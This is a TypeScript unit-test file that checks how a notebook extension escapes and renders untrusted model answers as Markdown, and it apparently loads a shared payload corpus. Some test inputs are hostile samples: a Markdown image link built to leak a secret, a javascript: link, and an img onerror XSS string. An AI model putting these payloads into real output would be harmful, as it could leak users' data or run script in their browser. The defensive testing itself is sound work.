import { answerCell } from '../decisions';
import { isEvent, parseKernelMsg, savedEvents, type RunFinishedMsg } from '../protocol';
import { markdownNodes, markdownText, type MarkdownNode } from '../safe';
import { ev, rootReply } from './helpers';

/** The payloads the kernel's half is tested with too (tests/unit/test_safe.py). */
import corpus from '../../../tests/data/payloads.json';
const payloads = Object.entries(corpus.payloads).map(([id, text]) => [
  id,
  text.replace(/ATTACKER/g, 'http://127.0.0.1:9/leak')
]);

/** Whether every ASCII punctuation mark in `md` is backslash-escaped (so nothing can be markup). */
function allEscaped(md: string): boolean {
  for (let i = 0; i < md.length; i++) {
    if (/[!-/:-@[-`{-~]/.test(md[i])) {
      if (md[i] !== '\\' || i + 1 >= md.length || !/[!-/:-@[-`{-~]/.test(md[i + 1])) {
        return false;
      }
      i++; // the escaped character
    }
  }
  return true;
}

function finished(fields: Partial<RunFinishedMsg>): RunFinishedMsg {
  return {
    type: 'run_finished',
    run_id: 'r1',
    answer: null,
    answer_markdown: null,
    error: null,
    stop: 'answer',
    after_cell_id: null,
    usage: '',
    ...fields
  };
}

describe('markdownText', () => {
  it.each(payloads)('escapes every punctuation mark of %s', (_id, text) => {
    expect(allEscaped(markdownText(text))).toBe(true);
  });

  it('keeps letters, digits, spaces and line breaks as they are', () => {
    expect(markdownText('Line one\nline 2 ✓')).toBe('Line one\nline 2 ✓');
    expect(markdownText('a*b*')).toBe('a\\*b\\*');
  });
});

describe('answerCell with untrusted text', () => {
  it.each(payloads)('renders the error %s as text', (_id, text) => {
    const source = answerCell(finished({ error: text })).source;
    expect(source.startsWith('**RLM run ended without an answer:** ')).toBe(true);
    expect(allEscaped(source.slice('**RLM run ended without an answer:** '.length))).toBe(true);
  });

  it.each(payloads)('falls back to escaped text for the answer %s without the kernel’s Markdown', (_id, text) => {
    const source = answerCell(finished({ answer: text })).source;
    expect(allEscaped(source.slice('**RLM answer**\n\n'.length))).toBe(true);
  });

  it('uses the kernel’s safe Markdown of the answer when it sent one', () => {
    const cell = answerCell(finished({ answer: '<b>x</b>', answer_markdown: '\\<b>x\\</b>' }));
    expect(cell.source).toBe('**RLM answer**\n\n\\<b>x\\</b>');
  });

  it('escapes the usage line', () => {
    const source = answerCell(finished({ answer: 'a', answer_markdown: 'a', usage: '<img src=x>' })).source;
    expect(source).toContain('<small>\\<img src\\=x\\></small>');
  });

  it('reads answer_markdown only as a string beside an answer', () => {
    const msg = parseKernelMsg({ type: 'run_finished', run_id: 'r1', answer: null, answer_markdown: 'x' });
    expect(msg).toMatchObject({ answer: null, answer_markdown: null });
    const other = parseKernelMsg({ type: 'run_finished', run_id: 'r1', answer: 'a', answer_markdown: 5 });
    expect(other).toMatchObject({ answer: 'a', answer_markdown: null });
  });
});

describe('events from a saved notebook', () => {
  it('keeps well-formed events', () => {
    const events = [rootReply(1), ev('answer_set', { content: 'x', source: 'answer' })];
    expect(savedEvents({ rlm_kernel: { events } })).toEqual(events);
  });

  it.each([
    ['a reply text that is not a string', { ...rootReply(1), text: { toString: 1 } }],
    ['a missing model', { ...rootReply(1), model: undefined }],
    ['a cost that is a string', { ...rootReply(1), cost: '0.1' }],
    ['a step that is not a number', ev('step_started', { step: '1' as unknown as number, code: 'x', author: 'root' })],
    ['an unknown author', ev('step_started', { step: 1, code: 'x', author: 'admin' as 'root' })],
    ['a run id that is not a string', { ...rootReply(1), run_id: 7 }],
    ['a kind from the prototype', { ...rootReply(1), kind: 'toString' }]
  ])('drops an event with %s', (_what, event) => {
    expect(isEvent(event)).toBe(false);
    expect(savedEvents({ rlm_kernel: { events: [event] } })).toEqual([]);
  });
});

/** Every element of a tree of answer Markdown, depth first. */
function elements(nodes: MarkdownNode[]): Array<Exclude<MarkdownNode, string>> {
  return nodes.flatMap(n => (typeof n === 'string' ? [] : [n, ...elements(n.children)]));
}

/** The tree's text, as the panel shows it. */
function textOf(nodes: MarkdownNode[]): string {
  return nodes.map(n => (typeof n === 'string' ? n : textOf(n.children))).join('');
}

describe('an answer’s Markdown in the side panel', () => {
  it('renders emphasis, code and links instead of showing their source', () => {
    expect(markdownNodes('The code is **4721**, in *the vault*; see `codes.txt` or [the log](https://example.org/log).')).toEqual([
      {
        tag: 'p',
        children: [
          'The code is ',
          { tag: 'strong', children: ['4721'] },
          ', in ',
          { tag: 'em', children: ['the vault'] },
          '; see ',
          { tag: 'code', children: ['codes.txt'] },
          ' or ',
          { tag: 'a', href: 'https://example.org/log', children: ['the log'] },
          '.'
        ]
      }
    ]);
  });

  it('renders headings, lists, quotes and code blocks', () => {
    const nodes = markdownNodes('## Found\n\n- one\n- **two**\n\n1. first\n2. second\n\n> quoted\n\n```python\nx = 1 * 2\n```');
    expect(nodes.map(n => (typeof n === 'string' ? n : n.tag))).toEqual(['h2', 'ul', 'ol', 'blockquote', 'pre']);
    expect(nodes[1]).toEqual({
      tag: 'ul',
      children: [
        { tag: 'li', children: ['one'] },
        { tag: 'li', children: [{ tag: 'strong', children: ['two'] }] }
      ]
    });
    expect(nodes[4]).toEqual({ tag: 'pre', children: [{ tag: 'code', children: ['x = 1 * 2'] }] });
  });

  it('leaves plain text, snake_case, arithmetic and escapes as they are written', () => {
    const nodes = markdownNodes('a_b_c is 2 * 3 * 4 and \\*not em\\*');
    expect(nodes).toEqual([{ tag: 'p', children: ['a_b_c is 2 * 3 * 4 and *not em*'] }]);
  });

  it.each(payloads)('makes no markup of %s: text, known elements, and only web or mail links', (_id, text) => {
    for (const node of elements(markdownNodes(text))) {
      expect(['p', 'h1', 'h2', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'strong', 'em', 'del', 'a', 'hr']).toContain(node.tag);
      if (node.tag === 'a') {
        expect(node.href).toMatch(/^(https?|mailto):/i);
      } else {
        expect(node.href).toBeUndefined();
      }
    }
  });

  it('turns an image into a link to it, never loaded, and a javascript: link into its text', () => {
    expect(markdownNodes('![chart](http://127.0.0.1:9/leak?d=SECRET)')).toEqual([
      { tag: 'p', children: [{ tag: 'a', href: 'http://127.0.0.1:9/leak?d=SECRET', children: ['image: chart'] }] }
    ]);
    expect(markdownNodes('[click me](javascript:void0)')).toEqual([{ tag: 'p', children: ['click me'] }]);
    expect(textOf(markdownNodes('<img src=x onerror="alert(1)">'))).toBe('<img src=x onerror="alert(1)">');
  });
});
